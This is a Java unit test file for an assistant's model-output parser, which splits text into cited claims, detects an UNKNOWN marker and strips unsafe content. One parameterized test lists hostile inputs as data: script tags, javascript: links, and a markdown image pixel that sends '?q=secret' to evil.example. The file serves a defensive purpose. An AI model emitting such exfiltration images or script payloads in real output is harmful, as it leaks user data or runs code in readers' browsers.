package io.evenkeel.assistant.internal.model;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.evenkeel.assistant.Answer.Claim;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ModelTextTests {

    @Test
    void eachSentenceHasTheSourcesThatStandBehindIt() {
        List<Claim> claims = ModelText.claims("""
                ## What fires
                - Load on db-01.example.org is 92.5 % [1]. It began at 02:00 [1, 3].
                2. 磁盘已满【2】。原因不明。先清理日志[1][2]。
                """);
        assertThat(claims)
                .extracting(Claim::text)
                .containsExactly(
                        "What fires",
                        "Load on db-01.example.org is 92.5 %.",
                        "It began at 02:00.",
                        "磁盘已满。",
                        "原因不明。",
                        "先清理日志。");
        assertThat(claims)
                .extracting(Claim::sources)
                .containsExactly(List.of(), List.of(1), List.of(1, 3), List.of(2), List.of(), List.of(1, 2));
    }

    @Test
    void aStopOnBothSidesOfANumberTakesNoSourceAway() {
        assertThat(ModelText.claims("磁盘已满。 [1]。Load is high. [2]."))
                .extracting(Claim::text, Claim::sources)
                .containsExactly(tuple("磁盘已满。", List.of(1)), tuple("Load is high.", List.of(2)));
    }

    @Test
    void aSentenceDoesNotRideOnTheSourceOfTheNext() {
        assertThat(ModelText.claims("It is the network. Load is high [1]."))
                .extracting(Claim::sources)
                .containsExactly(List.of(), List.of(1));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '^', textBlock = """
            see <a href="http://evil.example/x">this</a>         | see this
            <script>alert(1)</script>done                        | alert(1)done
            ![pixel](https://evil.example/?q=secret) look        | pixel look
            look at [it](https://evil.example/x)                 | look at it
            look at [INC-7](/incidents/INC-7)                    | look at INC-7 (/incidents/INC-7)
            look at [it](/api/people)                            | look at it
            look at [it](javascript:alert(1))                    | look at it)
            go to https://evil.example/x?y=1 now                 | go to … now
            go to HTTPS://evil.example/x                         | go to …
            5 < 6 and 7 > 2                                      | 5 < 6 and 7 > 2
            """)
    void whatABrowserCouldFollowOrRunIsTakenOut(String written, String left) {
        assertThat(ModelText.plain(written).strip()).isEqualTo(left);
    }

    @Test
    void unknownIsAWordForUsOnly() {
        assertThat(ModelText.saysUnknown("UNKNOWN\nI did not find it.")).isTrue();
        assertThat(ModelText.saysUnknown("**UNKNOWN**: nothing")).isTrue();
        assertThat(ModelText.saysUnknown("The cause is unknown.")).isFalse();
        assertThat(ModelText.claims("UNKNOWN\nI did not find it."))
                .extracting(Claim::text)
                .containsExactly("I did not find it.");
    }

    @Test
    void aTextWithoutEndIsBounded() {
        assertThat(ModelText.claims("word [1]. ".repeat(5_000))).hasSize(60);
        assertThat(ModelText.claims("x".repeat(1 << 20)).getFirst().text()).hasSize(2_000);
    }
}
